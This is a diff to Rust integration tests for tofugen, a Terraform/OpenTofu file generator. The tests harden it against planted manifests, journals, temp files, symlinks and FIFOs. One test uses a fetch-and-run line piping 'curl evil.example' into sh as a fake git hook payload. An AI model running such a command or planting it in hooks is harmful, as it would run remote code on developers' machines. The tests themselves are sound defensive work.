@@ -22,7 +22,7 @@ fn v1() -> BTreeMap<String, String> {
     tree(&[
         ("generated/production/main.tf", "# production\nlocals {}\n"),
         ("generated/staging/main.tf", "# staging\nlocals {}\n"),
-        (".github/workflows/deploy.yml", "name: deploy\n"),
+        (".github/workflows/tofugen-deploy.yml", "name: deploy\n"),
         ("generated/old/extra.tf", "# soon an orphan\n"),
     ])
 }
@@ -36,7 +36,7 @@ fn v2() -> BTreeMap<String, String> {
             "# production\nlocals { x = 1 }\n",
         ),
         ("generated/staging/main.tf", "# staging\nlocals {}\n"),
-        (".github/workflows/deploy.yml", "name: deploy v2\n"),
+        (".github/workflows/tofugen-deploy.yml", "name: deploy v2\n"),
         ("schema/environments.schema.json", "{}\n"),
     ])
 }
@@ -190,7 +190,7 @@ fn hand_edited_files_are_protected_until_force() {
     let err = format!("{:#}", generate(dir.path(), &v2(), false).unwrap_err());
     assert!(err.contains(&format!("{prod}: edited by hand")), "{err}");
     assert!(
-        err.contains("generated/old/extra.tf: no longer generated, and edited by hand"),
+        err.contains("generated/old/extra.tf: no longer generated, and edited by hand (tofugen never deletes it"),
         "{err}"
     );
     assert!(err.contains("--force"), "{err}");
@@ -201,14 +201,23 @@ fn hand_edited_files_are_protected_until_force() {
     // Nothing at all was written.
     assert_eq!(before, listing(dir.path()));
 
+    // --force overwrites the edited file, but never deletes the edited orphan.
     let summary = generate(dir.path(), &v2(), true).unwrap();
     assert_eq!(
         summary,
-        "generated: 3 written, 1 unchanged, 1 removed (2 file(s) overwritten or removed by --force)"
+        "generated: 3 written, 1 unchanged, 0 removed (1 file(s) overwritten by --force); left \
+         in place, no longer generated but edited by hand (tofugen never deletes them): \
+         generated/old/extra.tf"
     );
     assert_eq!(read(dir.path(), prod), v2().get(prod).cloned());
-    assert!(!dir.path().join("generated/old").exists());
+    assert_eq!(
+        read(dir.path(), "generated/old/extra.tf").as_deref(),
+        Some("# edited orphan\n")
+    );
+    // No longer in the manifest: an unknown file from now on, never touched.
     assert!(check(dir.path(), &v2()).unwrap().is_empty());
+    generate(dir.path(), &v2(), false).unwrap();
+    assert!(dir.path().join("generated/old/extra.tf").exists());
 }
 
 #[test]
@@ -216,17 +225,21 @@ fn files_not_written_by_tofugen_are_not_overwritten_without_force() {
     let dir = tempfile::tempdir().unwrap();
     let files = v1();
     fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
-    fs::write(dir.path().join(".github/workflows/deploy.yml"), "mine\n").unwrap();
+    fs::write(
+        dir.path().join(".github/workflows/tofugen-deploy.yml"),
+        "mine\n",
+    )
+    .unwrap();
     let err = format!("{:#}", generate(dir.path(), &files, false).unwrap_err());
     assert!(
-        err.contains(".github/workflows/deploy.yml: exists but was not written by tofugen"),
+        err.contains(".github/workflows/tofugen-deploy.yml: exists but was not written by tofugen"),
         "{err}"
     );
     assert!(!dir.path().join(MANIFEST_PATH).exists());
     assert!(!dir.path().join("generated").exists());
     generate(dir.path(), &files, true).unwrap();
     assert_eq!(
-        read(dir.path(), ".github/workflows/deploy.yml").as_deref(),
+        read(dir.path(), ".github/workflows/tofugen-deploy.yml").as_deref(),
         Some("name: deploy\n")
     );
 }
@@ -236,7 +249,7 @@ fn identical_untracked_files_are_adopted() {
     let dir = tempfile::tempdir().unwrap();
     fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
     fs::write(
-        dir.path().join(".github/workflows/deploy.yml"),
+        dir.path().join(".github/workflows/tofugen-deploy.yml"),
         "name: deploy\n",
     )
     .unwrap();
@@ -245,7 +258,7 @@ fn identical_untracked_files_are_adopted() {
     assert!(
         read(dir.path(), MANIFEST_PATH)
             .unwrap()
-            .contains(".github/workflows/deploy.yml")
+            .contains(".github/workflows/tofugen-deploy.yml")
     );
 }
 
@@ -310,19 +323,31 @@ fn symlinks_leaving_the_root_are_refused() {
     assert!(format!("{:#}", check(&root, &files).unwrap_err()).contains("outside"));
     assert_eq!(fs::read_dir(&outside).unwrap().count(), 1);
 
-    // A symlinked directory inside the root is followed.
+    // A symlinked directory inside the root is followed only when it stays inside the paths
+    // tofugen owns: `generated -> real` would write `real/x.tf`.
     fs::remove_file(root.join("generated")).unwrap();
     fs::create_dir(root.join("real")).unwrap();
     symlink(root.join("real"), root.join("generated")).unwrap();
+    let err = format!("{:#}", generate(&root, &files, false).unwrap_err());
+    assert!(err.contains("leads it to `real/"), "{err}");
+    assert!(format!("{:#}", check(&root, &files).unwrap_err()).contains("leads it to `real/"));
+    assert_eq!(fs::read_dir(root.join("real")).unwrap().count(), 0);
+    fs::remove_file(root.join("generated")).unwrap();
+    fs::create_dir_all(root.join("generated/real")).unwrap();
+    symlink("real", root.join("generated/link")).unwrap();
+    let files = tree(&[("generated/link/x.tf", "x\n")]);
     generate(&root, &files, false).unwrap();
-    assert_eq!(read(&root, "real/x.tf").as_deref(), Some("x\n"));
+    assert_eq!(read(&root, "generated/real/x.tf").as_deref(), Some("x\n"));
     assert!(check(&root, &files).unwrap().is_empty());
 
     // A generated file that is a symlink is never written through.
-    symlink(outside.join("target.tf"), root.join("real/y.tf")).unwrap();
-    let files = tree(&[("generated/x.tf", "x\n"), ("generated/y.tf", "y\n")]);
+    symlink(outside.join("target.tf"), root.join("generated/real/y.tf")).unwrap();
+    let files = tree(&[
+        ("generated/link/x.tf", "x\n"),
+        ("generated/link/y.tf", "y\n"),
+    ]);
     let err = format!("{:#}", generate(&root, &files, true).unwrap_err());
-    assert!(err.contains("generated/y.tf: is a symlink"), "{err}");
+    assert!(err.contains("generated/link/y.tf: is a symlink"), "{err}");
     assert_eq!(read(&outside, "target.tf").as_deref(), Some("precious\n"));
 }
 
@@ -345,8 +370,9 @@ fn manifest_entries_that_escape_the_root_are_refused() {
     assert!(err.contains("--force"), "{err}");
     assert!(check(&root, &BTreeMap::new()).is_err());
     assert!(outer.path().join("victim").exists());
-    // --force discards the bad manifest but still never deletes what it lists.
-    generate(&root, &BTreeMap::new(), true).unwrap();
+    // --force does not override an invalid entry either, and never deletes what it lists.
+    let err = format!("{:#}", generate(&root, &BTreeMap::new(), true).unwrap_err());
+    assert!(err.contains("\"../victim\""), "{err}");
     assert!(outer.path().join("victim").exists());
 }
 
@@ -510,9 +536,24 @@ fn a_corrupt_journal_is_reported_clearly() {
     generate(dir.path(), &v1(), false).unwrap();
     fs::write(dir.path().join(JOURNAL_PATH), "{not json").unwrap();
     let err = format!("{:#}", generate(dir.path(), &v1(), false).unwrap_err());
-    assert!(err.contains("not a valid tofugen journal"), "{err}");
+    assert!(
+        err.contains(&format!("{JOURNAL_PATH}:1:2: key must be a string")),
+        "{err}"
+    );
+    assert!(err.contains("not a journal tofugen can act on"), "{err}");
+    let err = format!("{:#}", check(dir.path(), &v1()).unwrap_err());
+    assert!(err.contains(&format!("{JOURNAL_PATH}:1:2:")), "{err}");
+    assert!(!err.contains("to complete it"), "{err}");
+    // An older format is named as such.
+    let journal = r#"{"format":1,"state":"committed","writes":[],"removes":[]}"#;
+    fs::write(dir.path().join(JOURNAL_PATH), journal).unwrap();
+    let err = format!("{:#}", generate(dir.path(), &v1(), false).unwrap_err());
+    assert!(
+        err.contains("format 1 is not the journal format 2"),
+        "{err}"
+    );
     let journal =
-        r#"{"format":1,"state":"committed","writes":[{"path":"../x","sha256":"00"}],"removes":[]}"#;
+        r#"{"format":2,"state":"committed","writes":[{"path":"../x","sha256":"00"}],"removes":[]}"#;
     fs::write(dir.path().join(JOURNAL_PATH), journal).unwrap();
     let err = format!("{:#}", generate(dir.path(), &v1(), false).unwrap_err());
     assert!(err.contains("\"../x\""), "{err}");
@@ -606,4 +647,577 @@ fn a_killed_process_leaves_a_recoverable_tree() {
         assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
     }
     eprintln!("{interrupted} of 12 kills interrupted a run mid-journal");
+}
+
+// ---------------------------------------------------------------------------------------------
+// The owned set, and what an attacker who can commit files can plant: manifest entries,
+// journals, temp files, symlinks, special files. One test per attack class.
+// ---------------------------------------------------------------------------------------------
+
+/// Writes `files` (path → content) under `root`, creating directories.
+fn plant(root: &Path, files: &[(&str, &str)]) {
+    for (p, c) in files {
+        let path = root.join(p);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, c).unwrap();
+    }
+}
+
+/// Adds `entries` (path → content whose sha256 is listed) to the manifest under `root`.
+fn add_to_manifest(root: &Path, entries: &[(&str, &str)]) {
+    let path = root.join(MANIFEST_PATH);
+    let mut manifest: serde_json::Value =
+        serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+    for (p, c) in entries {
+        manifest["files"][*p] = serde_json::Value::String(sha(c));
+    }
+    fs::write(path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
+}
+
+/// The temp file tofugen stages for `rel`.
+fn tmp_of(root: &Path, rel: &str) -> std::path::PathBuf {
+    let (dir, name) = rel.rsplit_once('/').unwrap_or(("", rel));
+    root.join(dir).join(format!(".{name}{TMP_SUFFIX}"))
+}
+
+/// Writes a journal (format 2) in `state` with `writes` and `removes` (path, content whose hash
+/// is recorded).
+fn plant_journal(root: &Path, state: &str, writes: &[(&str, &str)], removes: &[(&str, &str)]) {
+    let entries = |list: &[(&str, &str)]| -> Vec<serde_json::Value> {
+        list.iter()
+            .map(|(p, c)| serde_json::json!({"path": p, "sha256": sha(c)}))
+            .collect()
+    };
+    let journal = serde_json::json!({
+        "format": 2,
+        "state": state,
+        "writes": entries(writes),
+        "removes": entries(removes),
+    });
+    fs::write(root.join(JOURNAL_PATH), journal.to_string()).unwrap();
+}
+
+/// Runs `f` on another thread and fails if it does not finish within 10 s (a blocked open of a
+/// FIFO never would).
+fn within_10s<T: Send + 'static>(what: &str, f: impl FnOnce() -> T + Send + 'static) -> T {
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let _ = tx.send(f());
+    });
+    rx.recv_timeout(std::time::Duration::from_secs(10))
+        .unwrap_or_else(|_| panic!("{what} blocked for 10 s"))
+}
+
+/// Creates a FIFO. (Not with the `mkfifo` command: a child process forked while another test's
+/// thread holds a lock file would hold that lock too until it execs, failing that test.)
+fn mkfifo(path: &Path) {
+    use std::os::unix::ffi::OsStrExt as _;
+    let c_path = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
+    // SAFETY: `c_path` is a valid NUL-terminated string that outlives the call.
+    let rc = unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) };
+    assert_eq!(rc, 0, "mkfifo {}", path.display());
+}
+
+#[test]
+fn generated_files_outside_the_owned_set_are_refused_before_anything_is_written() {
+    let dir = tempfile::tempdir().unwrap();
+    for bad in [
+        "README.md",
+        "src/lib.rs",
+        ".github/workflows/deploy.yml",
+        ".github/workflows/tofugen-x.yaml",
+        "schema/other.json",
+        ".git/hooks/pre-commit",
+        "generated/.git/config",
+        "generated/x/.GIT/HEAD",
+    ] {
+        let files = tree(&[(bad, "x\n"), ("generated/ok.tf", "ok\n")]);
+        for err in [
+            generate(dir.path(), &files, true).unwrap_err(),
+            check(dir.path(), &files).unwrap_err(),
+        ] {
+            let err = format!("{err:#}");
+            assert!(err.contains(&format!("{bad:?}")), "{bad}: {err}");
+            assert!(err.contains("tofugen bug"), "{bad}: {err}");
+        }
+        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0, "{bad}");
+    }
+}
+
+/// Attack: manifest entries naming files outside the owned set, with their right hashes, so
+/// they look like orphans to remove.
+#[test]
+fn manifest_entries_outside_the_owned_set_are_never_deleted() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let victims = [
+        ("README.md", "# readme\n"),
+        ("src/lib.rs", "fn main() {}\n"),
+        ("schema/scaleway-provider-schema.json", "{}\n"),
+        (".github/workflows/ci.yml", "name: ci\n"),
+    ];
+    plant(root, &victims);
+    add_to_manifest(root, &victims);
+    for force in [false, true] {
+        let err = format!("{:#}", generate(root, &v1(), force).unwrap_err());
+        for (p, _) in victims {
+            assert!(err.contains(&format!("{p:?}: outside the paths")), "{err}");
+        }
+        assert!(
+            err.contains("never acted on") || err.contains("not acted on"),
+            "{err}"
+        );
+    }
+    let err = format!("{:#}", check(root, &v1()).unwrap_err());
+    assert!(err.contains("\"README.md\""), "{err}");
+    for (p, c) in victims {
+        assert_eq!(read(root, p).as_deref(), Some(c), "{p}");
+    }
+}
+
+/// Attack: manifest entries under `.git` (in any case, at any depth).
+#[test]
+fn manifest_entries_under_dot_git_are_never_deleted() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let victims = [
+        (".git/config", "[core]\n"),
+        (".git/hooks/pre-commit", "#!/bin/sh\n"),
+        ("generated/.git/config", "[core]\n"),
+        ("generated/x/.GIT/HEAD", "ref: refs/heads/main\n"),
+    ];
+    plant(root, &victims);
+    add_to_manifest(root, &victims);
+    for force in [false, true] {
+        let err = format!("{:#}", generate(root, &v1(), force).unwrap_err());
+        for (p, _) in &victims[2..] {
+            assert!(err.contains(&format!("{p:?}: paths under `.git`")), "{err}");
+        }
+    }
+    assert!(check(root, &v1()).is_err());
+    for (p, c) in victims {
+        assert_eq!(read(root, p).as_deref(), Some(c), "{p}");
+    }
+}
+
+/// `--force` overwrites what tofugen writes now, but never deletes a file it no longer
+/// generates whose content is not what it wrote.
+#[test]
+fn force_never_deletes_an_orphan_edited_by_hand() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    fs::write(root.join("generated/old/extra.tf"), "# mine now\n").unwrap();
+    let summary = generate(root, &v2(), true).unwrap();
+    assert!(summary.contains("0 removed"), "{summary}");
+    assert!(
+        summary.contains("left in place, no longer generated but edited by hand"),
+        "{summary}"
+    );
+    assert!(summary.contains("generated/old/extra.tf"), "{summary}");
+    assert_eq!(
+        read(root, "generated/old/extra.tf").as_deref(),
+        Some("# mine now\n")
+    );
+}
+
+/// A crash between the commit and a removal, then a hand edit: the removal is hash-checked
+/// right before deleting, on roll-forward too.
+#[test]
+fn a_removal_on_roll_forward_is_hash_checked() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    // v1 → v2 writes 3 files and the manifest, then removes one: stop before the removal.
+    assert!(generate_interrupted(root, &v2(), false, Interrupt::AfterOps(4)).unwrap());
+    fs::write(
+        root.join("generated/old/extra.tf"),
+        "# edited after the crash\n",
+    )
+    .unwrap();
+    let summary = generate(root, &v2(), false).unwrap();
+    assert!(
+        summary.contains("completed an interrupted run first"),
+        "{summary}"
+    );
+    assert!(summary.contains("left in place"), "{summary}");
+    assert_eq!(
+        read(root, "generated/old/extra.tf").as_deref(),
+        Some("# edited after the crash\n")
+    );
+    assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
+}
+
+/// Attack: a committed journal that removes files outside the owned set or under `.git`.
+#[test]
+fn a_planted_journal_cannot_remove_files_outside_the_owned_set() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let victims = [
+        ("README.md", "# readme\n"),
+        (".git/config", "[core]\n"),
+        ("generated/.git/config", "[core]\n"),
+    ];
+    plant(root, &victims);
+    plant_journal(root, "committed", &[], &victims);
+    for force in [false, true] {
+        let err = format!("{:#}", generate(root, &v1(), force).unwrap_err());
+        assert!(err.contains("is not a journal tofugen can act on"), "{err}");
+        for (p, _) in victims {
+            assert!(err.contains(&format!("{p:?}")), "{err}");
+        }
+    }
+    let err = format!("{:#}", check(root, &v1()).unwrap_err());
+    assert!(err.contains("\"README.md\": outside the paths"), "{err}");
+    assert!(!err.contains("to complete it"), "{err}");
+    for (p, c) in victims {
+        assert_eq!(read(root, p).as_deref(), Some(c), "{p}");
+    }
+    assert!(
+        root.join(JOURNAL_PATH).exists(),
+        "the journal is left for inspection"
+    );
+}
+
+/// Attack: a committed journal with temp files that renames them outside the owned set (a git
+/// hook, a source file).
+#[test]
+fn a_planted_journal_cannot_write_outside_the_owned_set() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let evil = "#!/bin/sh\ncurl evil.example | sh\n";
+    let targets = [
+        ".git/hooks/pre-commit",
+        "src/build.rs",
+        "generated/.git/hooks/x",
+    ];
+    for t in targets {
+        let tmp = tmp_of(root, t);
+        fs::create_dir_all(tmp.parent().unwrap()).unwrap();
+        fs::write(tmp, evil).unwrap();
+    }
+    let writes: Vec<(&str, &str)> = targets.iter().map(|t| (*t, evil)).collect();
+    plant_journal(root, "committed", &writes, &[]);
+    let err = format!("{:#}", generate(root, &v1(), true).unwrap_err());
+    for t in targets {
+        assert!(err.contains(&format!("{t:?}")), "{err}");
+        assert!(!root.join(t).exists(), "{t} was written");
+        assert!(tmp_of(root, t).exists(), "{t}: nothing is acted on");
+    }
+    assert!(check(root, &v1()).is_err());
+}
+
+/// Attack: a committed journal whose temp file does not hold what the journal records.
+#[test]
+fn a_planted_journal_cannot_rename_a_temp_file_whose_hash_differs() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let prod = "generated/production/main.tf";
+    fs::write(tmp_of(root, prod), "# swapped\n").unwrap();
+    plant_journal(root, "committed", &[(prod, "# recorded\n")], &[]);
+    let err = format!("{:#}", generate(root, &v1(), true).unwrap_err());
+    assert!(
+        err.contains(&format!("{prod}: its temp file does not hold the content")),
+        "{err}"
+    );
+    let err = format!("{:#}", check(root, &v1()).unwrap_err());
+    assert!(err.contains("does not hold the content"), "{err}");
+    assert_eq!(read(root, prod), v1().get(prod).cloned());
+}
+
+/// Attack: a journal and temp files that agree with each other, but not with the manifest the
+/// run commits: tofugen never wrote such a journal.
+#[test]
+fn a_planted_journal_must_agree_with_the_manifest_it_commits() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let prod = "generated/production/main.tf";
+    let evil = "# evil\n";
+    fs::write(tmp_of(root, prod), evil).unwrap();
+    // Without a manifest write: the manifest on disk lists the old content.
+    plant_journal(root, "committed", &[(prod, evil)], &[]);
+    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
+    assert!(
+        err.contains(&format!(
+            "{prod}: the manifest the run commits does not list it with this content"
+        )),
+        "{err}"
+    );
+    assert_eq!(read(root, prod), v1().get(prod).cloned());
+    // With a manifest write whose new manifest does not list it either.
+    let manifest = read(root, MANIFEST_PATH).unwrap();
+    fs::write(tmp_of(root, MANIFEST_PATH), &manifest).unwrap();
+    plant_journal(
+        root,
+        "committed",
+        &[(prod, evil), (MANIFEST_PATH, &manifest)],
+        &[],
+    );
+    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
+    assert!(err.contains("does not list it with this content"), "{err}");
+    assert!(check(root, &v1()).is_err());
+    assert_eq!(read(root, prod), v1().get(prod).cloned());
+    // A manifest that is not the last write, or that a journal removes, is refused too.
+    plant_journal(
+        root,
+        "committed",
+        &[(MANIFEST_PATH, &manifest), (prod, evil)],
+        &[],
+    );
+    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
+    assert!(err.contains("the manifest is written last"), "{err}");
+}
+
+/// Attack: a committed journal that removes the manifest (with its right hash).
+#[test]
+fn a_planted_journal_cannot_remove_the_manifest() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let manifest = read(root, MANIFEST_PATH).unwrap();
+    plant_journal(root, "committed", &[], &[(MANIFEST_PATH, &manifest)]);
+    // Without its manifest, the next change would find every file "not written by tofugen".
+    let err = format!("{:#}", generate(root, &v2(), false).unwrap_err());
+    assert!(err.contains("the manifest is never removed"), "{err}");
+    assert_eq!(read(root, MANIFEST_PATH), Some(manifest));
+}
+
+/// Attack: a temp file that is a symlink (to a file outside the repository), renamed into
+/// place it would make the generated file a link to anything.
+#[test]
+fn a_planted_journal_cannot_rename_a_symlink_into_place() {
+    let outer = tempfile::tempdir().unwrap();
+    let root = outer.path().join("repo");
+    fs::create_dir(&root).unwrap();
+    generate(&root, &v1(), false).unwrap();
+    let secret = outer.path().join("secret");
+    fs::write(&secret, "# evil\n").unwrap();
+    let prod = "generated/production/main.tf";
+    symlink(&secret, tmp_of(&root, prod)).unwrap();
+    plant_journal(&root, "committed", &[(prod, "# evil\n")], &[]);
+    let err = format!("{:#}", generate(&root, &v1(), true).unwrap_err());
+    assert!(err.contains("is a symlink, not a regular file"), "{err}");
+    assert!(fs::symlink_metadata(root.join(prod)).unwrap().is_file());
+    assert_eq!(read(&root, prod), v1().get(prod).cloned());
+}
+
+/// Attack: the same path twice, or a hash that is not a sha256.
+#[test]
+fn a_journal_with_duplicate_or_malformed_entries_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let prod = "generated/production/main.tf";
+    plant_journal(root, "prepared", &[(prod, "a")], &[(prod, "a")]);
+    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
+    assert!(err.contains("listed more than once"), "{err}");
+    let journal = format!(
+        r#"{{"format":2,"state":"prepared","writes":[{{"path":"{prod}","sha256":"xyz"}}],"removes":[]}}"#
+    );
+    fs::write(root.join(JOURNAL_PATH), journal).unwrap();
+    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
+    assert!(err.contains("`xyz` is not a sha256"), "{err}");
+    let err = format!("{:#}", check(root, &v1()).unwrap_err());
+    assert!(err.contains("`xyz` is not a sha256"), "{err}");
+}
+
+/// Attack: a symlinked directory inside the owned set that leads out of it (to `.git`), and a
+/// manifest entry through it with the right hash.
+#[test]
+fn symlinked_directories_cannot_lead_outside_the_owned_set() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    let description = "Unnamed repository; edit this file 'description' to name the repository.\n";
+    plant(root, &[(".git/description", description)]);
+    symlink("../.git", root.join("generated/x")).unwrap();
+    add_to_manifest(root, &[("generated/x/description", description)]);
+    for force in [false, true] {
+        let err = format!("{:#}", generate(root, &v1(), force).unwrap_err());
+        assert!(
+            err.contains("leads it to `.git/description`: paths under `.git`"),
+            "{err}"
+        );
+    }
+    assert!(check(root, &v1()).is_err());
+    assert_eq!(read(root, ".git/description").as_deref(), Some(description));
+    // Writing through it is refused the same way.
+    let files = tree(&[("generated/x/hooks/pre-commit", "evil\n")]);
+    assert!(generate(root, &files, true).is_err());
+    assert!(!root.join(".git/hooks").exists());
+}
+
+/// A journal or manifest that is a FIFO is refused without blocking (an open for reading
+/// would wait for a writer forever).
+#[test]
+fn bookkeeping_files_that_are_fifos_are_refused_without_blocking() {
+    for name in [JOURNAL_PATH, MANIFEST_PATH] {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().to_path_buf();
+        generate(&root, &v1(), false).unwrap();
+        fs::remove_file(root.join(name)).ok();
+        mkfifo(&root.join(name));
+        let r = root.clone();
+        let err = within_10s("generate", move || {
+            generate(&r, &v1(), true).map_err(|e| format!("{e:#}"))
+        });
+        let err = err.unwrap_err();
+        assert!(err.contains("is a FIFO (named pipe)"), "{name}: {err}");
+        let r = root.clone();
+        let err = within_10s("check", move || {
+            check(&r, &v1()).map_err(|e| format!("{e:#}"))
+        });
+        assert!(err.unwrap_err().contains("FIFO"), "{name}");
+    }
+}
+
+#[test]
+fn a_lock_file_that_is_not_a_regular_file_is_refused_without_blocking() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().to_path_buf();
+    generate(&root, &v1(), false).unwrap();
+    let lock = root.join(LOCK_PATH);
+    let outside = tempfile::NamedTempFile::new().unwrap();
+    type Make = Box<dyn Fn(&Path)>;
+    let cases: [(&str, Make); 3] = [
+        ("FIFO (named pipe)", Box::new(mkfifo)),
+        ("directory", Box::new(|p: &Path| fs::create_dir(p).unwrap())),
+        (
+            "symlink",
+            Box::new(move |p: &Path| symlink(outside.path(), p).unwrap()),
+        ),
+    ];
+    for (kind, make) in cases {
+        fs::remove_file(&lock)
+            .or_else(|_| fs::remove_dir(&lock))
+            .unwrap();
+        make(&lock);
+        for which in ["generate", "check"] {
+            let r = root.clone();
+            let err = within_10s(which, move || {
+                let out = if which == "generate" {
+                    generate(&r, &v1(), false).map(drop)
+                } else {
+                    check(&r, &v1()).map(drop)
+                };
+                format!("{:#}", out.unwrap_err())
+            });
+            assert!(
+                err.contains(&format!(
+                    "the lock file {LOCK_PATH} is a {kind}, not a regular file"
+                )),
+                "{which} {kind}: {err}"
+            );
+        }
+    }
+    fs::remove_dir(&lock).ok();
+    fs::remove_file(&lock).ok();
+    generate(&root, &v2(), false).unwrap();
+}
+
+/// The lock file deleted while a run holds it: later runs create a new one and work.
+#[test]
+fn a_lock_file_deleted_mid_run_does_not_wedge_the_repository() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    // A run in progress holds the lock; then someone deletes the file.
+    let held = fs::File::open(root.join(LOCK_PATH)).unwrap();
+    held.try_lock().unwrap();
+    fs::remove_file(root.join(LOCK_PATH)).unwrap();
+    assert!(check(root, &v1()).unwrap().is_empty());
+    generate(root, &v2(), false).unwrap();
+    drop(held);
+    // A run interrupted, its lock file deleted: the next run completes it.
+    assert!(generate_interrupted(root, &v1(), false, Interrupt::AfterOps(2)).unwrap());
+    fs::remove_file(root.join(LOCK_PATH)).unwrap();
+    let summary = generate(root, &v1(), false).unwrap();
+    assert!(
+        summary.ends_with("completed an interrupted run first"),
+        "{summary}"
+    );
+    assert!(check(root, &v1()).unwrap().is_empty());
+    assert!(root.join(LOCK_PATH).is_file());
+}
+
+/// `check` verifies a journal before it suggests `generate` to complete it.
+#[test]
+fn check_verifies_a_journal_before_suggesting_generate() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    generate(root, &v1(), false).unwrap();
+    assert!(generate_interrupted(root, &v2(), false, Interrupt::AfterOps(1)).unwrap());
+    let report = check(root, &v2()).unwrap();
+    assert!(
+        report[0].contains("run `tofugen generate` to complete it"),
+        "{report:#?}"
+    );
+    // A temp file swapped since: check says exactly what is wrong, and not to run generate.
+    let schema = "schema/environments.schema.json";
+    fs::write(tmp_of(root, schema), "{\"evil\": true}\n").unwrap();
+    let err = format!("{:#}", check(root, &v2()).unwrap_err());
+    assert!(
+        err.contains(&format!(
+            "{schema}: its temp file does not hold the content"
+        )),
+        "{err}"
+    );
+    assert!(!err.contains("to complete it"), "{err}");
+    assert!(generate(root, &v2(), false).is_err());
+    assert!(!root.join(schema).exists(), "nothing was renamed");
+}
+
+/// The generated tree is capped in files and bytes: a clear error, nothing written.
+#[test]
+fn a_generated_tree_over_the_size_limits_is_refused() {
+    use tofugen::write::{MAX_GENERATED_BYTES, MAX_GENERATED_FILES};
+    let dir = tempfile::tempdir().unwrap();
+    let many: BTreeMap<String, String> = (0..=MAX_GENERATED_FILES)
+        .map(|i| (format!("generated/f{i}.tf"), String::new()))
+        .collect();
+    let huge = tree(&[("generated/big.tf", &"x".repeat(MAX_GENERATED_BYTES + 1))]);
+    for files in [many, huge] {
+        for err in [
+            generate(dir.path(), &files, true).unwrap_err(),
+            check(dir.path(), &files).unwrap_err(),
+        ] {
+            let err = format!("{err:#}");
+            assert!(err.contains("over the limit"), "{err}");
+        }
+        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0);
+    }
+}
+
+/// A FIFO where a generated file goes is reported by `check` and refused by `generate`, and
+/// never opened (opening it for reading would block).
+#[test]
+fn a_fifo_where_a_generated_file_goes_is_reported_not_read() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().to_path_buf();
+    generate(&root, &v1(), false).unwrap();
+    let prod = "generated/production/main.tf";
+    fs::remove_file(root.join(prod)).unwrap();
+    mkfifo(&root.join(prod));
+    let r = root.clone();
+    let report = within_10s("check", move || check(&r, &v1()).unwrap());
+    assert!(
+        report.concat().contains(&format!(
+            "{prod}: is a FIFO (named pipe), not a regular file"
+        )),
+        "{report:#?}"
+    );
+    let r = root.clone();
+    let err = within_10s("generate", move || {
+        format!("{:#}", generate(&r, &v1(), true).unwrap_err())
+    });
+    assert!(
+        err.contains(&format!("{prod}: is a FIFO (named pipe)")),
+        "{err}"
+    );
 }
